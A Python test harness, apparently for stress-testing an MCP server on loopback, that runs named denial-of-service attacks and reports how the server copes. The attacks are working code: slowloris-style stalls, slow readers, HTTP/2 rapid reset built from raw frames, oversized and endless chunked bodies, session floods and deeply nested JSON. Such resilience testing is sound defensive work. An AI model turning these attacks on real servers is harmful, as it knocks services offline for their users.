# SPDX-License-Identifier: Apache-2.0
"""One attack on a server on loopback, for a bounded time: python3 attack.py NAME PORT PKI SECONDS.

Prints `ready` once the attack stands, and at the end one JSON line that says how the server took it.
"""

import asyncio
import contextlib
import fcntl
import json
import os
import socket
import ssl
import sys
import termios
import time
from pathlib import Path
from typing import Awaitable, Callable

STALLED, FROM_ONE_IDENTITY = 500, 200
POST = "POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n"
INITIALIZE = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
    "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "flood", "version": "1"}}})
Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


class Attacker:
    def __init__(self, port: int, pki: str, seconds: float):
        self.port, self.until = port, time.monotonic() + seconds
        self.trusted = ssl.create_default_context(cafile=f"{pki}/ca.crt")
        self.trusted.load_cert_chain(f"{pki}/attacker.crt", f"{pki}/attacker.key")
        self.anonymous = ssl.create_default_context(cafile=f"{pki}/ca.crt")
        self.established = self.refused = self.done = 0
        self.held: list[float] = []
        self.outlasted: list[float] = []

    def left(self) -> float:
        return self.until - time.monotonic()

    async def plain(self) -> Streams:
        return await asyncio.open_connection("127.0.0.1", self.port)

    async def mutual(self, receive_buffer: int = 0, protocols: tuple[str, ...] = (), limit: int = 65536) -> Streams:
        raw = socket.socket()
        if receive_buffer:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        raw.setblocking(False)
        try:
            await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", self.port))
            if protocols:
                self.trusted.set_alpn_protocols(list(protocols))
            return await asyncio.open_connection(sock=raw, ssl=self.trusted, server_hostname="localhost", limit=limit)
        except BaseException:
            raw.close()
            raise

    async def keep(self, many: int, once: Callable[["Attacker"], Awaitable[None]]) -> None:
        """MANY peers at once; each dropped peer returns after a moment."""
        await asyncio.gather(*(self.again_and_again(once, 0.5) for _ in range(many)))

    async def paced(self, rate: float, once: Callable[["Attacker"], Awaitable[None]]) -> None:
        workers = 8
        await asyncio.gather(*(self.again_and_again(once, workers / rate) for _ in range(workers)))

    async def again_and_again(self, once: Callable[["Attacker"], Awaitable[None]], rest: float) -> None:
        while self.left() > 0:
            try:
                await asyncio.wait_for(once(self), max(self.left(), 0.1))
                self.done += 1
            except (OSError, EOFError):
                self.refused += self.left() > 0
            await asyncio.sleep(min(rest, max(self.left(), 0)))

    async def until_dropped(self, streams: Streams, drip: bytes = b"", read: bool = True) -> None:
        """Keeps the connection, sending a byte a second if there is data to send, until the server closes it. For a peer that
        reads nothing, the time counts from the last byte that the server accepted."""
        reader, writer = streams
        self.established += 1
        began = last_moved = time.monotonic()
        dropped = True
        try:
            sent = waiting = 0
            while not writer.is_closing() and not (read and reader.at_eof()):
                if self.left() <= 0:
                    dropped = False
                    break
                if drip:
                    writer.write(drip[sent % len(drip) : sent % len(drip) + 1])
                    sent += 1
                    await writer.drain()
                try:
                    if read:
                        if not await asyncio.wait_for(reader.read(4096), 1):
                            break
                    else:
                        await asyncio.sleep(0.2)
                        if not is_established(writer):
                            break
                        if unacknowledged(writer) != waiting:
                            waiting, last_moved = unacknowledged(writer), time.monotonic()
                except asyncio.TimeoutError:
                    continue
        except OSError:
            pass
        except asyncio.CancelledError:
            dropped = False
            raise
        finally:
            now = time.monotonic()
            if dropped:
                self.held.append(now - (began if read else last_moved))
            else:
                self.outlasted.append(now - began)
            writer.transport.abort()

    def report(self) -> dict:
        return {"established": self.established, "refused": self.refused, "dropped": len(self.held), "done": self.done,
                "held_most_s": round(max(self.held, default=0), 1),
                "outlasted": len(self.outlasted), "outlasted_most_s": round(max(self.outlasted, default=0), 1)}


def is_established(writer: asyncio.StreamWriter) -> bool:
    """The state of the socket in the system, because a peer that does not read does not learn it otherwise."""
    known = writer.get_extra_info("socket")
    return known is not None and known.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == 1


def unacknowledged(writer: asyncio.StreamWriter) -> int:
    """Bytes that the other end has not accepted: those that asyncio holds below TLS, and those that the system holds."""
    raw = writer.transport._ssl_protocol._transport  # no other way in to it
    held = fcntl.ioctl(writer.get_extra_info("socket"), termios.TIOCOUTQ, bytes(4)) if raw else bytes(4)
    return int.from_bytes(held, sys.byteorder) + (raw.get_write_buffer_size() if raw else 0)


def client_hello() -> bytes:
    context, out = ssl.create_default_context(), ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        return out.read()


HELLO = client_hello()


async def partial_hello(a: Attacker) -> None:
    reader, writer = await a.plain()
    writer.write(HELLO[:60])
    await a.until_dropped((reader, writer))


async def half_handshake(a: Attacker) -> None:
    reader, writer = await a.plain()
    writer.write(HELLO)
    await a.until_dropped((reader, writer))


async def no_certificate(a: Attacker) -> None:
    reader, writer = await asyncio.open_connection("127.0.0.1", a.port, ssl=a.anonymous, server_hostname="localhost")
    writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    try:
        answer = await reader.read(100)
        a.established += bool(answer)  # it should never get this far
    finally:
        writer.transport.abort()


async def idle(a: Attacker) -> None:
    await a.until_dropped(await a.mutual())


async def slow_headers(a: Attacker) -> None:
    reader, writer = await a.mutual()
    writer.write(POST.encode()[:40])
    await a.until_dropped((reader, writer), drip=b"X")


async def slow_body(a: Attacker) -> None:
    reader, writer = await a.mutual()
    writer.write(f"{POST}Content-Length: 4000\r\n\r\n{{".encode())
    await a.until_dropped((reader, writer), drip=b" ")


async def session(a: Attacker) -> str:
    """The header that names a session of this identity; none for a server that has no sessions."""
    reader, writer = await a.mutual()
    try:
        writer.write(f"{POST}Connection: close\r\nContent-Length: {len(INITIALIZE)}\r\n\r\n{INITIALIZE}".encode())
        answer = (await reader.readuntil(b"\r\n\r\n")).decode()
        named = [line for line in answer.split("\r\n") if line.lower().startswith("mcp-session-id:")]
        return f"{named[0]}\r\n" if named else ""
    finally:
        writer.transport.abort()


def long_call(number: int) -> str:
    return json.dumps({"jsonrpc": "2.0", "id": number, "method": "tools/call", "params": {"name": "echo", "arguments": {"text": "x" * 60000}}})


def slow_readers(named: str) -> Callable[["Attacker"], Awaitable[None]]:
    """Twenty calls each, whose answers are not read."""
    first = iter(range(0, 2**31, 20))

    async def slow_reader(a: Attacker) -> None:
        reader, writer = await a.mutual(receive_buffer=4096, limit=512)
        begin = next(first)
        writer.transport.set_read_buffer_limits(high=1024)
        writer.transport.pause_reading()
        texts = [long_call(begin + n) for n in range(20)]
        writer.write("".join(f"{POST}{named}Content-Length: {len(text)}\r\n\r\n{text}" for text in texts).encode())
        await a.until_dropped((reader, writer), read=False)

    return slow_reader


def slow_streams(named: str) -> Callable[["Attacker"], Awaitable[None]]:
    """The same on HTTP/2 with a window that stays closed (RFC 9113, section 6.9)."""
    first = iter(range(0, 2**31, 20))

    async def slow_stream(a: Attacker) -> None:
        reader, writer = await a.mutual(protocols=("h2",))
        pairs = [(b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/mcp"),
                 (b"content-type", b"application/json"), (b"accept", b"application/json, text/event-stream")]
        if named:
            pairs.append((b"mcp-session-id", named.split(":")[1].strip().encode()))
        headers = b"".join(literal(*pair) for pair in pairs)
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\x00\x04" + bytes(4)))
        begin = next(first)
        for n in range(20):  # within the first window of the connection
            text = long_call(begin + n).replace("x" * 59000, "").encode()
            writer.write(frame(1, 4, 2 * n + 1, headers) + frame(0, 1, 2 * n + 1, text))
        await a.until_dropped((reader, writer))

    return slow_stream


async def from_a_session(a: Attacker, peers: Callable[[str], Callable[["Attacker"], Awaitable[None]]]) -> None:
    await a.keep(FROM_ONE_IDENTITY, peers(await session(a)))


async def session_flood(a: Attacker) -> None:
    reader, writer = await a.mutual()
    a.established += 1
    try:
        for _ in range(50):
            writer.write(f"{POST}Content-Length: {len(INITIALIZE)}\r\n\r\n{INITIALIZE}".encode())
            await writer.drain()
            if not await reader.readline():
                return
            await asyncio.sleep(0.01)
            a.done += 1
    finally:
        writer.transport.abort()


async def big_body(a: Attacker) -> None:
    await oversize(a, "Content-Length: 104857600\r\n", b" " * 65536)


async def endless_chunks(a: Attacker) -> None:
    await oversize(a, "Transfer-Encoding: chunked\r\n", b"10000\r\n" + b" " * 65536 + b"\r\n")


async def oversize(a: Attacker, header: str, piece: bytes) -> None:
    reader, writer = await a.mutual()
    a.established += 1
    try:
        writer.write(f"{POST}{header}\r\n".encode())
        for _ in range(1600):
            writer.write(piece)
            await writer.drain()
            if reader.at_eof() or reader._buffer:  # answered before the body was whole
                return
            await asyncio.sleep(0.002)
    finally:
        writer.transport.abort()


async def deep_json(a: Attacker) -> None:
    reader, writer = await a.mutual()
    a.established += 1
    try:
        body = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":' + b'{"a":[' * 100_000
        writer.write(f"{POST}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        await reader.read(100)
    finally:
        writer.transport.abort()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


async def rapid_reset(a: Attacker) -> None:
    reader, writer = await a.mutual(protocols=("h2",))
    if writer.get_extra_info("ssl_object").selected_alpn_protocol() != "h2":
        writer.transport.abort()
        await asyncio.sleep(max(a.left(), 0))  # no HTTP/2 here, nothing to reset
        return
    a.established += 1
    headers = b"".join(literal(*pair) for pair in ((b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", b"/mcp")))
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        for stream in range(1, 2**20, 2):
            writer.write(frame(1, 4, stream, headers) + frame(3, 0, stream, (8).to_bytes(4, "big")))
            if stream % 20 == 1:
                await writer.drain()
                await asyncio.sleep(0.005)
                if reader.at_eof():
                    return
            a.done += 1
    finally:
        writer.transport.abort()


ATTACKS: dict[str, Callable[[Attacker], Awaitable[None]]] = {
    "partial-hello": lambda a: a.keep(STALLED, partial_hello),
    "half-handshake": lambda a: a.keep(STALLED, half_handshake),
    "no-certificate": lambda a: a.paced(100, no_certificate),
    "idle": lambda a: a.keep(STALLED, idle),
    "slow-headers": lambda a: a.keep(FROM_ONE_IDENTITY, slow_headers),
    "slow-body": lambda a: a.keep(FROM_ONE_IDENTITY, slow_body),
    "slow-reader": lambda a: from_a_session(a, slow_readers),
    "slow-streams": lambda a: from_a_session(a, slow_streams),
    "rapid-reset": lambda a: a.keep(1, rapid_reset),
    "session-flood": lambda a: a.keep(4, session_flood),
    "big-body": lambda a: a.paced(4, big_body),
    "endless-chunks": lambda a: a.paced(4, endless_chunks),
    "deep-json": lambda a: a.paced(10, deep_json),
}


def step_back() -> None:
    """A real attacker has its own machine, so it must not use the server's processor here."""
    os.nice(15)
    # If Linux schedules by session, a process is only nice to others of its own session.
    with contextlib.suppress(OSError):  # it leads a session already, or is not allowed to
        os.setsid()
        Path("/proc/self/autogroup").write_text("15")


async def main(name: str, port: str, pki: str, seconds: str) -> None:
    step_back()
    attacker = Attacker(int(port), pki, float(seconds))
    attack = asyncio.create_task(ATTACKS[name](attacker))
    before, latest = -1, time.monotonic() + 4
    while time.monotonic() < latest and attacker.established > before:
        before = attacker.established
        await asyncio.sleep(1)
    print("ready", flush=True)
    await attack
    print(json.dumps(attacker.report()), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
